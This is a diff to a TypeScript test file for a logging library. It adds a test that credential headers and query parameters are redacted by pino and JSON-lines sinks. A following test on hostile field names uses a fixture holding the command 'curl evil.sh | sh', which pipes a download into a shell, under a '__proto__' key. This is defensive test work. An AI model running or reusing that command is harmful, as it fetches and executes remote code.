@@ -108,6 +108,27 @@ describe.each(PINOS)('pino sink on %s', (_major, pino) => {
   });
 });
 
+describe('sinks subscribed to an instance', () => {
+  it('redact the header and query parameter it reads credentials from, however they are named', async () => {
+    const kw = createKeyward({ header: 'X-Tenant-Pass', queryParam: 'ak' });
+    const extra = { headers: { 'X-Tenant-Pass': 'plain-secret-1', accept: 'json' }, query: { ak: 'plain-secret-2' }, url: '/x?ak=plain-secret-3&page=2' };
+    const expected = { headers: { 'X-Tenant-Pass': '[REDACTED]', accept: 'json' }, query: { ak: '[REDACTED]' }, url: '/x?ak=[REDACTED]&page=2' };
+    const pinoOut = capture();
+    const pinoLines = pinoSink({ keyward: kw, logger: pino9(pinoOut.stream), redact: { keys: ['other'] } });
+    const jsonOut = capture();
+    const jsonLines = jsonLinesSink({ keyward: kw, stream: jsonOut.stream });
+    pinoLines.write(EVENT, extra);
+    jsonLines.write(EVENT, extra);
+    expect(pinoOut.lines()[0]!.request).toEqual(expected);
+    expect(jsonOut.lines()[0]!.request).toEqual(expected);
+    // Without an instance, `redact` names them.
+    const bare = capture();
+    jsonLinesSink({ stream: bare.stream, redact: { headers: ['x-tenant-pass'], query: ['ak'] } }).write(EVENT, extra);
+    expect(bare.lines()[0]!.request).toEqual(expected);
+    await Promise.all([pinoLines.close(), jsonLines.close(), kw.close()]);
+  });
+});
+
 describe('sanitize and hostile field names', () => {
   it('keeps fields named __proto__ in the output as fields, so a client cannot hide data from the log', () => {
     const body = JSON.parse('{"__proto__":{"cmd":"curl evil.sh | sh","password":"hunter2"},"page":1}') as unknown;
